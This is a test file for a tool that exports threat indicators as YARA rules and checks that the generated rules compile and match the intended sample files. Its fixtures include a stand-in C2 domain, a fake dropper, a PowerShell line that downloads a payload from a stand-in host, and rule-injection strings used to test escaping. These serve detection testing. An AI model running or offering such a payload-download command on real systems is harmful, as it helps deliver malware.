import fc from 'fast-check';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exportItems } from '../../../shared/core/export/items';
import { yaraRuleName, yaraRules } from '../../../shared/core/export/yara';
import type { StixObject } from '../../../shared/core/taxii/model';
import { collect, indicator, newExportStats, options, PROVIDER_ID, sco } from './fixtures';

/**
 * The generated rules are compiled and run by the real `yara` (Debian's `yara` package; .ci/run installs it).
 * Without it these tests fail and say so: rules that only look right are what this guards against.
 */
const YARA_MISSING = spawnSync('yara', ['--version']).error !== undefined;

let dir: string;
beforeAll(() => {
  if (YARA_MISSING)
    throw new Error('yara is not installed: `apt-get install -y yara` (Debian package yara; .ci/run installs it when missing)');
  dir = mkdtempSync(join(tmpdir(), 'kyoyu-yara-'));
});
afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

async function rulesFor(objects: StixObject[]): Promise<string> {
  return (await collect(yaraRules(exportItems(objects, options())))).join('');
}

/** Runs yara over the files; the rule names that matched each file. */
function scan(rules: string, files: Record<string, Buffer>): Record<string, string[]> {
  const rulesPath = join(dir, 'rules.yar');
  writeFileSync(rulesPath, rules);
  const targets = join(dir, 'targets');
  rmSync(targets, { recursive: true, force: true });
  execFileSync('mkdir', ['-p', targets]);
  for (const [name, content] of Object.entries(files)) writeFileSync(join(targets, name), content);
  const out = execFileSync('yara', ['--fail-on-warnings', '-r', rulesPath, targets], { encoding: 'utf8' });
  const hits: Record<string, string[]> = Object.fromEntries(Object.keys(files).map((f) => [f, []]));
  for (const line of out.split('\n').filter(Boolean)) {
    const [rule, path] = line.split(' ') as [string, string];
    hits[path.slice(targets.length + 1)]!.push(rule);
  }
  for (const list of Object.values(hits)) list.sort();
  return hits;
}

describe('YARA rules', () => {
  it('compile, and match a file by its hash and another by a string it carries', async () => {
    // Prepare
    const dropper = Buffer.from('MZ kyoyu test dropper body');
    const sha256 = createHash('sha256').update(dropper).digest('hex').toUpperCase();
    const md5 = createHash('md5').update(dropper).digest('hex');
    const byHash = indicator(`[file:hashes.'SHA-256' = '${sha256}']`);
    const byMd5 = sco('file', { hashes: { MD5: md5, 'SHA-512': 'd'.repeat(128) } });
    const byString = indicator("[domain-name:value = 'c2-kanto.xyz'] OR [url:value = 'http://drop-kanto.xyz/p.bin']");
    // Act
    const rules = await rulesFor([byHash, byMd5, byString]);
    const hits = scan(rules, {
      'dropper.exe': dropper,
      'config.bin': Buffer.from('xx C2-KANTO.XYZ yy', 'utf16le'),
      'loader.ps1': Buffer.from('iwr http://drop-kanto.xyz/p.bin'),
      'clean.txt': Buffer.from('nothing to see'),
    });
    // Assess
    expect(hits).toEqual({
      'dropper.exe': [yaraRuleName(byHash.id), yaraRuleName(byMd5.id)].sort(),
      'config.bin': [yaraRuleName(byString.id)],
      'loader.ps1': [yaraRuleName(byString.id)],
      'clean.txt': [],
    });
    expect(rules).not.toContain(PROVIDER_ID);
    expect(rules).toContain(
      `rule ${yaraRuleName(byHash.id)} {\n  meta:\n    id = "${byHash.id}"\n    tlp = "TLP:GREEN"\n    modified = "2026-01-10T09:00:00.000Z"\n  condition:\n    hash.sha256(0, filesize) == "${sha256.toLowerCase()}"\n}\n`,
    );
  });

  it('counts a SHA-512, which the hash module cannot compute, and writes no empty rule', async () => {
    // Prepare
    const stats = newExportStats();
    // Act
    const rules = (
      await collect(yaraRules(exportItems([sco('file', { hashes: { 'SHA-512': 'e'.repeat(128) } })], options()), { stats }))
    ).join('');
    // Assess
    expect(rules).toBe('import "hash"\n');
    expect(stats.unsupportedByFormat).toBe(1);
  });

  it('compiles, and matches each file exactly, for adversarial and arbitrary values', async () => {
    // Prepare: URLs and e-mail local parts carry the bytes a string escape must handle.
    const adversarial = ['a"b', 'a\\b', 'x\ny', '日本語', '\u0000', '" condition: true }', '\\x41', '%22'];
    const arbitrary = fc.sample(fc.string({ unit: 'binary', maxLength: 20 }), { seed: 15, numRuns: 150 });
    const objects = [...adversarial, ...arbitrary].map((v) => sco('url', { value: `http://c2-kanto.xyz/${v}` }));
    const items = await collect(exportItems(objects, options()));
    // Act
    const rules = await rulesFor(objects);
    const hits = scan(rules, Object.fromEntries(items.slice(0, 40).map((item, i) => [`f${i}`, Buffer.from(`<${item.value}>`)])));
    // Assess: every file is found by the rule of its own value at least (a shorter URL may be a prefix of it).
    items.slice(0, 40).forEach((item, i) => expect(hits[`f${i}`]).toContain(yaraRuleName(item.objectId)));
    expect(rules.match(/^rule /gm)).toHaveLength(items.length);
  });
});
